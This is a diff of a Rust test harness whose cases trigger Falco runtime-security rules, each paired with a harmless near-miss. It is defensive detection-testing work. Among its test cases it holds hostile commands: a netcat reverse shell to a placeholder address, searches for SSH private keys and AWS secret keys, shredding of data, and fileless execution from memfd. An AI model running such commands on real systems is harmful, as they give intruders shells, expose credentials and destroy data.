@@ -20,10 +20,9 @@ fn shell_of(parent: &str) -> io::Result<()> {
 pub(crate) static SHELL_OF_SERVER: Deed = Deed {
     name: "server runs a shell",
     falco: "Run shell untrusted",
-    within: Within::Host,
-    nearly_within: Within::Host,
     it: || shell_of("nginx"),
     nearly: || shell_of("make"),
+    ..Deed::PLAIN
 };
 
 /// A program run as the user `bin`, as the child of a process of this name.
@@ -43,10 +42,9 @@ fn as_bin(parent: &str) -> io::Result<()> {
 pub(crate) static ACCOUNT: Deed = Deed {
     name: "account of the system logs in",
     falco: "System user interactive",
-    within: Within::Host,
-    nearly_within: Within::Host,
     it: || as_bin("sshd"),
     nearly: || as_bin("cron"),
+    ..Deed::PLAIN
 };
 
 /// A terminal of its own, for this process and its children.
@@ -74,13 +72,14 @@ pub(crate) static TERMINAL: Deed = Deed {
     within: Within::Container,
     nearly_within: Within::Container,
     it: || {
-        // The terminal lives as long as this process.
         apart(|| {
-            let _terminal = on_terminal()?;
+            // Whoever leads a session is ended with its terminal, which must live as long as this process.
+            std::mem::forget(on_terminal()?);
             shell_of("containerd-shim")
         })
     },
     nearly: || apart(|| shell_of("containerd-shim")),
+    ..Deed::PLAIN
 };
 
 pub(crate) static NETCAT: Deed = Deed {
@@ -90,33 +89,31 @@ pub(crate) static NETCAT: Deed = Deed {
     nearly_within: Within::Container,
     it: || place::run_somewhere("nc", &["nc", "-e", "/bin/sh", "198.51.100.7", "4444"]),
     nearly: || place::run_somewhere("nc", &["nc", "-z", "198.51.100.7", "443"]),
+    ..Deed::PLAIN
 };
 
 pub(crate) static KEYS_SOUGHT: Deed = Deed {
     name: "seeks private keys",
     falco: "Search Private Keys or Passwords",
-    within: Within::Host,
-    nearly_within: Within::Host,
     it: || place::run_somewhere("find", &["find", "/home", "-name", "id_rsa"]),
     nearly: || place::run_somewhere("find", &["find", "/home", "-name", "notes"]),
+    ..Deed::PLAIN
 };
 
 pub(crate) static TOKENS_SOUGHT: Deed = Deed {
     name: "seeks credentials of a cloud",
     falco: "Find AWS Credentials",
-    within: Within::Host,
-    nearly_within: Within::Host,
     it: || place::run_somewhere("grep", &["grep", "-r", "aws_secret_access_key", "/srv"]),
     nearly: || place::run_somewhere("grep", &["grep", "-r", "aws_region", "/srv"]),
+    ..Deed::PLAIN
 };
 
 pub(crate) static DISK_WIPED: Deed = Deed {
     name: "wipes a disk",
     falco: "Remove Bulk Data from Disk",
-    within: Within::Host,
-    nearly_within: Within::Host,
     it: || place::run_somewhere("shred", &["shred", "-u", "data"]),
     nearly: || place::run_somewhere("rm", &["rm", "data"]),
+    ..Deed::PLAIN
 };
 
 /// Runs a program in a folder that nobody else sees.
@@ -130,10 +127,9 @@ fn run_covered(folder: &str) -> io::Result<()> {
 pub(crate) static FROM_SHARED_MEMORY: Deed = Deed {
     name: "runs from shared memory",
     falco: "Execution from /dev/shm",
-    within: Within::Host,
-    nearly_within: Within::Host,
     it: || run_covered("/dev/shm"),
     nearly: || run_covered("/mnt"),
+    ..Deed::PLAIN
 };
 
 /// An image's file system with a writable layer, and a program in one of the two.
@@ -158,13 +154,12 @@ pub(crate) static DROPPED: Deed = Deed {
     nearly_within: Within::Container,
     it: || run_in_layer(true),
     nearly: || run_in_layer(false),
+    ..Deed::PLAIN
 };
 
 pub(crate) static FROM_MEMORY: Deed = Deed {
     name: "runs from memory",
     falco: "Fileless execution via memfd_create",
-    within: Within::Host,
-    nearly_within: Within::Host,
     it: || {
         let name = CString::new("own").map_err(io::Error::other)?;
         let mut file = File::from(sys::open(libc::SYS_memfd_create, &[name.as_ptr() as usize, 0])?);
@@ -172,6 +167,7 @@ pub(crate) static FROM_MEMORY: Deed = Deed {
         apart(|| Err(sys::exec_at(&file, "", &["own"], libc::AT_EMPTY_PATH)))
     },
     nearly: || place::run_somewhere("own", &["own"]),
+    ..Deed::PLAIN
 };
 
 pub(crate) static DISK_EDITED: Deed = Deed {
@@ -181,4 +177,5 @@ pub(crate) static DISK_EDITED: Deed = Deed {
     nearly_within: Within::Container,
     it: || place::run_somewhere("debugfs", &["debugfs", "-w"]),
     nearly: || place::run_somewhere("debugfs", &["debugfs", "-w"]),
+    ..Deed::PLAIN
 };
